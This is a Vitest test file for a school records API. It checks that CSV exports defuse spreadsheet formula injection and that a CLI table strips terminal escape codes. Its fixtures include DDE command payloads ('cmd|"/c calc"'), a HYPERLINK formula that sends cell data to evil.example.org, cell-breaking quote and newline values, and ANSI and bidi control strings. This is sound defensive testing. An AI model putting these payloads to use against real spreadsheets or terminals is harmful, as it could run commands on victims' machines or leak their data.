import { describe, expect, it } from 'vitest';
import { textTable } from '@/school-api/cli/table';
import { columnsOf } from '@/school-api/records/export/columns';
import { asCsv } from '@/school-api/records/export/export-file';

/** Cell contents that a spreadsheet would evaluate. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=cmd|"/c calc"!A1',
  '+cmd|"/c calc"!A1',
  '-2+3+cmd|"/c calc"!A1',
  '=HYPERLINK("https://evil.example.org/?"&A1,"x")',
];

async function exported(words: string): Promise<string> {
  async function* pages() {
    yield [{ name: words, message: 'plain' }];
  }
  let text = '';
  for await (const piece of asCsv(pages(), columnsOf(['name', 'message']))) text += piece;
  return text;
}

/** The first cell of the second line, as a spreadsheet reads it. */
const cellOf = (csv: string) => /\r\n"((?:[^"]|"")*)"/.exec(csv)?.[1]?.replaceAll('""', '"') ?? '';

describe('a visitor’s input in the office’s spreadsheet', () => {
  it.each(formulas)('is text without formulas: %j', async (words) => {
    const cell = cellOf(await exported(words));
    expect(cell).toBe(`'${words}`);
  });

  it.each(['"', '","=1+1', '"\r\n"=1+1', '\n=1+1', '",,,\r\n=1+1'])(
    'stays in its cell: %j',
    async (words) => {
      const csv = await exported(words);
      // Split like a spreadsheet does: two lines of two cells.
      const cells = csv.slice(1).match(/"(?:[^"]|"")*"/g) ?? [];
      expect(cells).toHaveLength(4);
    },
  );

  it('cannot control a terminal that displays it', () => {
    const odd = 'a\u001b[2J\u001b]0;title\u0007\u202e\rb';
    const shown = textTable(['name'], [{ name: odd }]);
    for (const sign of ['\u001b', '\u0007', '\u202e', '\r']) expect(shown).not.toContain(sign);
  });
});
